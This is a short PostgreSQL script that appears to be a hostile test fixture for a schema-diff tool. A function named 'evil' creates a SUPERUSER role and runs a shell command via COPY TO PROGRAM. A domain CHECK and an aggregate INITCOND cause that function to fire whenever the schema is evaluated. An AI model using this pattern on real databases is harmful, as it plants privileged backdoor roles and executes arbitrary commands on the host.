CREATE TABLE public.t (id int);
CREATE FUNCTION public.evil() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    EXECUTE 'CREATE ROLE pwned SUPERUSER';
    EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch /tmp/schemadiff-hostile-pwned''';
    RETURN 1;
END
$$;
CREATE DOMAIN public.guarded AS int CHECK (VALUE > public.evil());
CREATE FUNCTION public.add(public.guarded, int) RETURNS public.guarded LANGUAGE sql AS 'SELECT $1';
CREATE AGGREGATE public.agg(int) (SFUNC = public.add, STYPE = public.guarded, INITCOND = '5');
